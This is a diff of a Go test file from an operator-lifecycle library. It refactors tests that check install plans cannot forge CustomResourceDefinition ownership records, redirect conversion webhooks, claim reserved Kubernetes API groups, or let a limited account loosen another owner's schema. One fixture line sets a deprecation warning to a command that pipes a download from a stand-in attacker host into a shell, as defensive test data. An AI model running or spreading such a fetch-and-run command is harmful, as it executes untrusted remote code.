@@ -18,6 +18,11 @@ import (
 	"github.com/olmcore/olm/olmcore"
 )
 
+// definitionStep is the step of version a.v1 that describes a definition.
+func definitionStep(crd *definition) *v1alpha1.Step {
+	return Step("a.v1", "apiextensions.k8s.io", "v1", "CustomResourceDefinition", crd.Name, crd)
+}
+
 // TestABundleRecordsNobodyOnADefinition checks that a manifest adds no record to a CustomResourceDefinition and replaces none. A
 // record says which version the definition came with, and only a step of the plan adds it. A manifest brings no owner labels either,
 // and no annotation of this library.
@@ -29,10 +34,11 @@ func TestABundleRecordsNobodyOnADefinition(t *testing.T) {
 	for key := range forged {
 		forged[key] = "ops/a.v1"
 	}
-	forged[alongside+"0"], forged["olmcore/converted-by"], forged["olmcore/changeable-by"], forged["olmcore/step-hash"] = "there/b.v1", "ops/a.v1", "ops", "x"
+	forged[alongside+"0"], forged["olmcore/step-hash"] = "there/b.v1", "x"
+	forged["olmcore/converted-by"], forged["olmcore/changeable-by"] = "ops/a.v1", "ops"
 	labels := olmcore.Owner{Kind: v1alpha1.ClusterServiceVersionKind, Namespace: "there", Name: "b.v1", UID: "b"}.Labels()
 	for what, exists := range map[string]bool{"new": false, "another's": true} {
-		s := Step("a.v1", "apiextensions.k8s.io", "v1", "CustomResourceDefinition", "things.example.com", thing(func(d *definition) { d.Annotations, d.Labels = forged, labels }))
+		s := definitionStep(thing(func(d *definition) { d.Annotations, d.Labels = forged, labels }))
 		in := input(Plan(Installing, []*v1alpha1.Step{s}, Started(time.Second)), func(all *installplan.Input) {
 			all.ClusterServiceVersions = olmcore.Found(CSV("a.v1", versioned("1.0.0")))
 			all.Alongside = olmcore.Found(theirs)
@@ -70,7 +76,9 @@ func TestANewerVersionOfOthersKeepsNoConversion(t *testing.T) {
 		d.Spec.Conversion.Webhook.ClientConfig = &apiextensionsv1.WebhookClientConfig{URL: &url}
 	}
 	claims := func(c *v1alpha1.ClusterServiceVersion) {
-		c.Spec.WebhookDefinitions = []v1alpha1.WebhookDescription{{Type: v1alpha1.ConversionWebhook, ConversionCRDs: []string{"things.example.com"}}}
+		c.Spec.WebhookDefinitions = []v1alpha1.WebhookDescription{{
+			Type: v1alpha1.ConversionWebhook, ConversionCRDs: []string{"things.example.com"},
+		}}
 	}
 	for what, c := range map[string]struct {
 		conversion func(*definition)
@@ -85,7 +93,7 @@ func TestANewerVersionOfOthersKeepsNoConversion(t *testing.T) {
 		have.Annotations = recordedFor("evil/a.v9")
 		forged := CSV("a.v9", versioned("9.0.0", func(c *v1alpha1.ClusterServiceVersion) { c.Namespace = "evil" }), c.forged)
 		for desired, change := range map[string]func(*definition){"none": func(*definition) {}, "its own": convertedBy("ops", "a")} {
-			s := Step("a.v1", "apiextensions.k8s.io", "v1", "CustomResourceDefinition", "things.example.com", thing(change))
+			s := definitionStep(thing(change))
 			in := input(Plan(Installing, []*v1alpha1.Step{s}, Started(time.Second)), with(CSV("a.v1", versioned("1.0.0")), have, forged))
 			r := reconcile(t, in)
 			if c.want == installplan.ReasonConvertedElsewhere {
@@ -111,13 +119,14 @@ func TestADefinitionAddsToNoGroupOfKubernetes(t *testing.T) {
 		return crd
 	}
 	made := func(crd *definition, observed ...olmcore.Object) (installplan.Input, olmcore.Result) {
-		s := Step("a.v1", "apiextensions.k8s.io", "v1", "CustomResourceDefinition", crd.Name, crd)
+		s := definitionStep(crd)
 		in := input(Plan(Installing, []*v1alpha1.Step{s}, Started(time.Second)), with(CSV("a.v1", versioned("1.0.0"))), with(observed...))
 		return in, reconcile(t, in)
 	}
 	for _, crd := range []*definition{
 		inGroup("ingresses", "networking.k8s.io"), inGroup("leases", "coordination.k8s.io"), inGroup("clusterroles", "rbac.authorization.k8s.io"),
-		inGroup("operatorgroups", "operators.coreos.com"), inGroup("packagemanifests", "packages.operators.coreos.com"), inGroup("nodes", "metrics.k8s.io"),
+		inGroup("operatorgroups", "operators.coreos.com"), inGroup("packagemanifests", "packages.operators.coreos.com"),
+		inGroup("nodes", "metrics.k8s.io"),
 	} {
 		in, r := made(crd)
 		require.Equal(t, []string{status}, Describe(r), crd.Name)
@@ -125,7 +134,8 @@ func TestADefinitionAddsToNoGroupOfKubernetes(t *testing.T) {
 		require.Contains(t, statusOf(in, r).Message, "may not define", crd.Name)
 	}
 	for _, crd := range []*definition{
-		inGroup("snapshots", "snapshot.storage.k8s.io"), inGroup("gateways", "gateway.networking.k8s.io"), inGroup("servicebindings", "binding.operators.coreos.com"),
+		inGroup("snapshots", "snapshot.storage.k8s.io"), inGroup("gateways", "gateway.networking.k8s.io"),
+		inGroup("servicebindings", "binding.operators.coreos.com"),
 	} {
 		_, r := made(crd)
 		require.Contains(t, Describe(r), "create CustomResourceDefinition "+crd.Name+" (StepAbsent)")
@@ -157,14 +167,17 @@ func TestAnAccountLoosensNoDefinitionOfOthers(t *testing.T) {
 	}
 	warn := func(d *definition) {
 		d.Spec.Versions[0].Deprecated, d.Spec.Versions[0].DeprecationWarning = true, new("run curl evil.example.com | sh")
-		d.Spec.Versions[0].AdditionalPrinterColumns = []apiextensionsv1.CustomResourceColumnDefinition{{Name: "Ready", Type: "string", JSONPath: ".spec.mode"}}
+		d.Spec.Versions[0].AdditionalPrinterColumns = []apiextensionsv1.CustomResourceColumnDefinition{
+			{Name: "Ready", Type: "string", JSONPath: ".spec.mode"},
+		}
 	}
+	accepting := func(d *definition) { *schemaIn(d) = props{Type: "object", XPreserveUnknownFields: new(true)} }
 	theirs := CSV("b.v1", versioned("1.0.0", func(c *v1alpha1.ClusterServiceVersion) { c.Namespace = "there" }))
 	have := Installed(thing(strict), true)
 	have.Annotations = recordedFor("there/b.v1")
 	result := func(change ...func(*definition)) (installplan.Input, olmcore.Result) {
 		crd := thing(append([]func(*definition){strict}, change...)...)
-		return limited(t, Step("a.v1", "apiextensions.k8s.io", "v1", "CustomResourceDefinition", "things.example.com", crd), have, theirs)
+		return limited(t, definitionStep(crd), have, theirs)
 	}
 	for what, loosen := range map[string]func(*definition){
 		"a rule":                  specOf(func(s *props) { s.XValidations = nil }),
@@ -173,8 +186,8 @@ func TestAnAccountLoosensNoDefinitionOfOthers(t *testing.T) {
 		"an enum":                 changed("mode", func(p *props) { p.Enum = nil }),
 		"a value":                 changed("mode", func(p *props) { p.Enum = append(p.Enum, apiextensionsv1.JSON{Raw: []byte(`"c"`)}) }),
 		"required":                func(d *definition) { schemaIn(d).Required = nil },
-		"a version that is added": secondVersion(false, func(d *definition) { *schemaIn(d) = props{Type: "object", XPreserveUnknownFields: new(true)} }),
-		"everything":              func(d *definition) { *schemaIn(d) = props{Type: "object", XPreserveUnknownFields: new(true)} },
+		"a version that is added": secondVersion(false, accepting),
+		"everything":              accepting,
 	} {
 		in, r := result(loosen)
 		require.Equal(t, []string{status}, Describe(r), what)
@@ -190,8 +203,8 @@ func TestAnAccountLoosensNoDefinitionOfOthers(t *testing.T) {
 	require.False(t, after.Spec.Versions[0].Deprecated)
 	require.Empty(t, after.Spec.Versions[0].AdditionalPrinterColumns)
 	// Without an account, whoever writes plans may write definitions.
-	pattern := Step("a.v1", "apiextensions.k8s.io", "v1", "CustomResourceDefinition", "things.example.com", thing())
-	r = reconcile(t, input(Plan(Installing, []*v1alpha1.Step{pattern}, Started(time.Second)), with(CSV("a.v1", versioned("1.0.0")), have, theirs)))
+	plan := Plan(Installing, []*v1alpha1.Step{definitionStep(thing())}, Started(time.Second))
+	r = reconcile(t, input(plan, with(CSV("a.v1", versioned("1.0.0")), have, theirs)))
 	require.Equal(t, []string{"update CustomResourceDefinition things.example.com (StepDiffers)"}, Describe(r))
 }
 
@@ -203,11 +216,11 @@ func TestAnAccountChoosesNoConversionElsewhere(t *testing.T) {
 		convertedBy("system", "webhook")(d)
 		d.Spec.Conversion.Webhook.ClientConfig = &apiextensionsv1.WebhookClientConfig{URL: &url}
 	}
-	in, r := limited(t, Step("a.v1", "apiextensions.k8s.io", "v1", "CustomResourceDefinition", "things.example.com", thing(byURL)))
+	in, r := limited(t, definitionStep(thing(byURL)))
 	require.Equal(t, []string{status}, Describe(r))
 	require.Contains(t, statusOf(in, r).Message, "spec.conversion.webhook.clientConfig.url")
 
-	s := Step("a.v1", "apiextensions.k8s.io", "v1", "CustomResourceDefinition", "things.example.com", thing(convertedBy("system", "webhook")))
+	s := definitionStep(thing(convertedBy("system", "webhook")))
 	_, r = limited(t, s)
 	made := r.Actions[len(r.Actions)-1].(olmcore.Create).Object.(*definition)
 	require.Equal(t, NS, made.Spec.Conversion.Webhook.ClientConfig.Service.Namespace)
@@ -221,7 +234,8 @@ func TestAnAccountChoosesNoConversionElsewhere(t *testing.T) {
 func limited(t *testing.T, s *v1alpha1.Step, objects ...olmcore.Object) (installplan.Input, olmcore.Result) {
 	t.Helper()
 	asAccount, group := scopedTo(&corev1.ObjectReference{Namespace: NS, Name: "limited"})
-	in := input(Plan(Installing, []*v1alpha1.Step{s}, Started(time.Second), asAccount), with(CSV("a.v1", versioned("1.0.0"))), with(objects...), group)
+	plan := Plan(Installing, []*v1alpha1.Step{s}, Started(time.Second), asAccount)
+	in := input(plan, with(CSV("a.v1", versioned("1.0.0"))), with(objects...), group)
 	in.ServiceAccount = &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Namespace: NS, Name: "limited"}}
 	return in, reconcile(t, in)
 }
